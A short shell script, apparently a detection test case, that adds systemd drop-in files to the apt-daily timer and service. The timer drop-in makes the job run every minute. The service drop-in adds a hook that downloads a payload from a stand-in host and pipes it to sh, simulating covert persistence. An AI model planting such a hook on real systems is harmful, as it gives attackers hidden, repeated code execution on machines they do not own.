#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/systemd/system/apt-daily.timer.d /etc/systemd/system/apt-daily.service.d
printf '[Timer]\nOnCalendar=*:0/1\nRandomizedDelaySec=0\n' >/etc/systemd/system/apt-daily.timer.d/speed.conf
printf '[Service]\nExecStartPre=-/bin/sh -c "curl -s http://203.0.113.10/payload.sh | sh"\n' >/etc/systemd/system/apt-daily.service.d/speed.conf
took_place
